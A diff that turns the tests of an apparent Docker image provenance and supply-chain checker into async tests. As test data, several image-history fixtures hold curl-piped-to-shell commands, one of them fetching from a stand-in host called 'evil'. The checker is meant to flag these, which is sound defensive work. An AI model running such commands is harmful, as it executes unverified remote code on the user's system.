@@ -107,8 +107,8 @@ const facts = (build: Fact<BuildFact>): Facts => {
 };
 
 describe('provenance', () => {
-  test('gives the Dockerfile, the digests of what it names, the end, and the arguments', () => {
-    const { fact, buildArgs, notices } = graded({
+  test('gives the Dockerfile, the digests of what it names, the end, and the arguments', async () => {
+    const { fact, buildArgs, notices } = await graded({
       attestations: [provenance('FROM debian:trixie\nRUN true\n', { verification: 'verified' })],
     });
     const value = valueOf(fact);
@@ -121,8 +121,8 @@ describe('provenance', () => {
     expect([buildArgs, notices]).toEqual([{ VERSION: '2' }, []]);
   });
 
-  test('the verified one counts, and that another says otherwise is told', () => {
-    const { fact, notices } = graded({
+  test('the verified one counts, and that another says otherwise is told', async () => {
+    const { fact, notices } = await graded({
       attestations: [
         provenance('FROM alpine:3\n', { source: 'buildkit-manifest' }),
         provenance('FROM debian:trixie\n', { verification: 'verified' }),
@@ -132,19 +132,21 @@ describe('provenance', () => {
     expect(notices).toEqual([
       'the provenance statements disagree on the Dockerfile; the verified one counts',
     ]);
-    const materials = graded({
+    const materials = await graded({
       attestations: [provenance(undefined), provenance(undefined, { base: 'c'.repeat(64) })],
     });
     expect(materials.notices[0]).toContain('disagree on the digest of pkg:docker/debian@trixie');
   });
 
-  test('one about the index is about the platform', () => {
-    const { fact } = graded({ attestations: [provenance('FROM debian\n', { subjects: [INDEX] })] });
+  test('one about the index is about the platform', async () => {
+    const { fact } = await graded({
+      attestations: [provenance('FROM debian\n', { subjects: [INDEX] })],
+    });
     expect(valueOf(fact).dockerfile.known).toBe(true);
   });
 
-  test('one that failed, or is about another image, is not looked at', () => {
-    const { fact } = graded({
+  test('one that failed, or is about another image, is not looked at', async () => {
+    const { fact } = await graded({
       attestations: [
         provenance('FROM debian\n', { verification: 'failed' }),
         provenance('FROM debian\n', { subjects: [digestOf('other')] }),
@@ -164,17 +166,17 @@ describe('provenance', () => {
       'verified-attestation',
       'my.Dockerfile is not the Dockerfile in the verified provenance, which counts',
     ],
-  ] as const)('%s, beside a file that the user names', (verification, source, notice) => {
+  ] as const)('%s, beside a file that the user names', async (verification, source, notice) => {
     const file = { name: 'my.Dockerfile', text: 'FROM alpine\n' };
     const attestations = [provenance('FROM debian\n', { verification })];
-    const { fact, notices } = graded({ attestations, file });
+    const { fact, notices } = await graded({ attestations, file });
     expect(valueOf(fact).dockerfile).toMatchObject({ source });
     expect(notices).toEqual([notice]);
   });
 
-  test('one that does not fit the image is not used, and that is told', () => {
+  test('one that does not fit the image is not used, and that is told', async () => {
     const contradicts = 'line 2 of the Dockerfile is not in the image’s history';
-    const { fact, notices } = graded({
+    const { fact, notices } = await graded({
       attestations: [provenance('FROM debian\n', { contradicts })],
     });
     expect(fact.known).toBe(false);
@@ -183,31 +185,31 @@ describe('provenance', () => {
     ]);
   });
 
-  test('one whose base was not compared earns nothing that its Dockerfile says', () => {
+  test('one whose base was not compared earns nothing that its Dockerfile says', async () => {
     const text = `FROM debian:trixie@sha256:${HEX}\nRUN apt-get install -y curl=1\n`;
     const unchecked = 'debian@sha256:b was not fetched (offline)';
-    const verdicts = (more: Parameters<typeof provenance>[1], file?: GivenDockerfile) => {
+    const verdicts = async (more: Parameters<typeof provenance>[1], file?: GivenDockerfile) => {
       const inputs = { attestations: [provenance(text, more)] };
-      const { fact } = graded(file === undefined ? inputs : { ...inputs, file });
+      const { fact } = await graded(file === undefined ? inputs : { ...inputs, file });
       return [trustedSource, pinnedImages, verifiedDownloads, pinnedPackages].map((criterion) => {
         const { outcome, summary } = criterion.judge(facts(fact));
         return `${outcome}: ${summary}`;
       });
     };
     const told = `nobody signed the provenance, and its base was not compared with the image: ${unchecked}`;
-    for (const verdict of verdicts({ unchecked })) {
+    for (const verdict of await verdicts({ unchecked })) {
       expect(verdict).toMatch(/^unknown: /);
       expect(verdict).toContain(told);
     }
     const outcomes = (all: readonly string[]) => all.map((one) => one.split(':')[0]);
     const earned = ['pass', 'pass', 'not-applicable', 'pass'];
-    expect(outcomes(verdicts({}))).toEqual(earned);
-    expect(outcomes(verdicts({ unchecked, verification: 'verified' }))).toEqual(earned);
-    expect(outcomes(verdicts({ unchecked }, { name: 'Dockerfile', text }))).toEqual(earned);
+    expect(outcomes(await verdicts({}))).toEqual(earned);
+    expect(outcomes(await verdicts({ unchecked, verification: 'verified' }))).toEqual(earned);
+    expect(outcomes(await verdicts({ unchecked }, { name: 'Dockerfile', text }))).toEqual(earned);
   });
 
-  test('one whose base was compared goes before one whose base was not', () => {
-    const { fact } = graded({
+  test('one whose base was compared goes before one whose base was not', async () => {
+    const { fact } = await graded({
       attestations: [
         provenance('FROM alpine:3\n', { unchecked: 'offline' }),
         provenance('FROM debian:trixie\n', { source: 'buildkit-manifest' }),
@@ -216,8 +218,8 @@ describe('provenance', () => {
     expect(valueOf(fact).images).toMatchObject({ value: [{ text: 'debian:trixie' }] });
   });
 
-  test('a file that the history does not fit counts, and that is told', () => {
-    const { notices } = graded({
+  test('a file that the history does not fit counts, and that is told', async () => {
+    const { notices } = await graded({
       file: { name: 'my.Dockerfile', text: 'FROM alpine\nRUN true\n' },
       config: {
         ...config('RUN /bin/sh -c curl evil | sh # buildkit'),
@@ -229,9 +231,9 @@ describe('provenance', () => {
     ]);
   });
 
-  test('without a Dockerfile in it, the file that the user names is read', () => {
+  test('without a Dockerfile in it, the file that the user names is read', async () => {
     const file = { name: 'Dockerfile', text: 'FROM debian:trixie\n' };
-    const { fact } = graded({ attestations: [provenance(undefined)], file });
+    const { fact } = await graded({ attestations: [provenance(undefined)], file });
     const value = valueOf(fact);
     expect(value.dockerfile).toMatchObject({ known: true, source: 'dockerfile' });
     expect(value.images).toMatchObject({ value: [{ digest: `sha256:${HEX}` }] });
@@ -239,35 +241,37 @@ describe('provenance', () => {
   });
 });
 
-test('a file that is no Dockerfile is the user’s to mend', () => {
-  expect(() => graded({ file: { name: 'README', text: 'hello\n' } })).toThrow(/^README, line 1: /);
+test('a file that is no Dockerfile is the user’s to mend', async () => {
+  await expect(graded({ file: { name: 'README', text: 'hello\n' } })).rejects.toThrow(
+    /^README, line 1: /,
+  );
 });
 
 describe('the history', () => {
-  const outcomes = (...history: readonly string[]) => {
-    const { fact } = graded({ config: config(...history) });
+  const outcomes = async (...history: readonly string[]) => {
+    const { fact } = await graded({ config: config(...history) });
     const all = facts(fact);
     return [verifiedDownloads, pinnedPackages, pinnedImages, trustedSource].map(
       (criterion) => criterion.judge(all).outcome,
     );
   };
 
-  test('shows what is wrong, and never that all is well', () => {
+  test('shows what is wrong, and never that all is well', async () => {
     expect(
-      outcomes('RUN /bin/sh -c curl https://example.org/x | sh # buildkit', 'CMD ["sh"]'),
+      await outcomes('RUN /bin/sh -c curl https://example.org/x | sh # buildkit', 'CMD ["sh"]'),
     ).toEqual(['fail', 'unknown', 'unknown', 'unknown']);
-    expect(outcomes('/bin/sh -c apt-get install -y curl')).toEqual([
+    expect(await outcomes('/bin/sh -c apt-get install -y curl')).toEqual([
       'unknown',
       'fail',
       'unknown',
       'unknown',
     ]);
-    expect(outcomes('RUN /bin/sh -c true # buildkit')).toEqual(Array(4).fill('unknown'));
-    expect(outcomes('CMD ["sh"]')).toEqual(Array(4).fill('unknown'));
+    expect(await outcomes('RUN /bin/sh -c true # buildkit')).toEqual(Array(4).fill('unknown'));
+    expect(await outcomes('CMD ["sh"]')).toEqual(Array(4).fill('unknown'));
   });
 
-  test('is marked as the image’s own word', () => {
-    const { fact } = graded({ config: config('RUN /bin/sh -c true # buildkit') });
+  test('is marked as the image’s own word', async () => {
+    const { fact } = await graded({ config: config('RUN /bin/sh -c true # buildkit') });
     expect(valueOf(fact).dockerfile).toMatchObject({ known: true, source: 'image' });
     expect(fact.known && fact.source).toBe('image');
   });
